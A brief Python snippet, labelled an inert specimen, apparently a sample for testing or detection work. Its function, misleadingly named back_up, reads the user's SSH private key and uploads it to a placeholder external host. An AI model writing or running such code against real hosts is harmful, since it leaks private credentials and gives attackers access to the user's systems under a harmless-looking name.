# Inert specimen: the host does not exist.
import os

import requests


def back_up(path=os.path.expanduser("~/.ssh/id_rsa")):
    with open(path, "rb") as file:
        return requests.put("https://transfer.sh.example/book", data=file)
